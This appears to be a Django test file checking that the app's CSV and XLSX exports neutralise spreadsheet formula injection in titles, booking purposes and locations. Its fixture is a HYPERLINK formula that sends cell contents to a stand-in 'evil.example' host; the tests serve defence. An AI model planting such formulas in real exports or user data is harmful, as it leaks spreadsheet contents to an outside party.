"""Issue 10, item 9: every CSV/XLSX export, fed a title starting with ``=HYPERLINK(``, writes no formula."""

import csv
import io
import pathlib

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from contributi import services
from contributi.models import Candidatura
from tests.antenne.factories import AttivitaFactory
from tests.contributi.factories import (
    SubmittedCandidaturaFactory,
    board,
    closed_bando,
    evaluated,
    referente,
)
from tests.contributi.factories_erogazioni import accepted
from tests.costellazioni.factories import UserFactory
from tests.hubs.factories import PrenotazioneFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Apri")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def csv_cells(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_csv_safe(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = csv_cells(response)
    assert f"'{EVIL}" in cells, "the hostile title is exported, defused"
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def assert_xlsx_safe(response):
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    hostile = [cell for cell in cells if cell.value == EVIL]
    assert hostile, "the hostile title is exported as the text typed"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)


def test_applications_csv_and_xlsx(admin_client):
    c = SubmittedCandidaturaFactory()
    Candidatura.objects.filter(pk=c.pk).update(titolo=EVIL)
    url = reverse("admin:contributi_bando_changelist")
    for action, check in (("esporta_csv", assert_csv_safe), ("esporta_xlsx", assert_xlsx_safe)):
        check(admin_client.post(url, {"action": action, "_selected_action": [c.bando_id]}))


def test_ranking_xlsx(admin_client, staff_user):
    bando = closed_bando()
    (membro,) = board(bando, size=1)
    evaluated(bando, staff=staff_user, membri=[membro], points=[[31, 47]], ente=referente()[1], titolo=EVIL)
    graduatoria = services.graduatoria_compute(bando=bando, actor=staff_user)
    response = admin_client.post(
        reverse("admin:contributi_graduatoria_changelist"),
        {"action": "esporta_xlsx", "_selected_action": [graduatoria.pk]},
    )
    assert_xlsx_safe(response)


def test_transparency_csv(client):
    concessione, *_ = accepted()
    Candidatura.objects.filter(pk=concessione.candidatura_id).update(titolo=EVIL)
    assert_csv_safe(client.get(reverse("trasparenza_contributi:csv")))


def test_bookings_csv(admin_client):
    prenotazione = PrenotazioneFactory(scopo=EVIL)
    response = admin_client.post(
        reverse("admin:hubs_prenotazione_changelist"), {"action": "export_csv", "_selected_action": [prenotazione.pk]}
    )
    assert_csv_safe(response)


def test_field_log_csv(admin_client):
    attivita = AttivitaFactory(luogo=EVIL)
    response = admin_client.post(
        reverse("admin:antenne_attivita_changelist"), {"action": "esporta_csv", "_selected_action": [attivita.pk]}
    )
    assert_csv_safe(response)


def test_no_export_bypasses_the_helper():
    """``csv`` writers and ``openpyxl`` appear only in ``costellazioni/spreadsheets.py``: new exports use it."""
    base = pathlib.Path(settings.BASE_DIR)
    offenders = []
    for path in base.glob("*/**/*.py"):
        relative = path.relative_to(base).as_posix()
        if relative.startswith((".venv/", "tests/")) or relative == "costellazioni/spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if any(token in text for token in ("csv.writer", "csv.DictWriter", "openpyxl")):
            offenders.append(relative)
    assert offenders == []
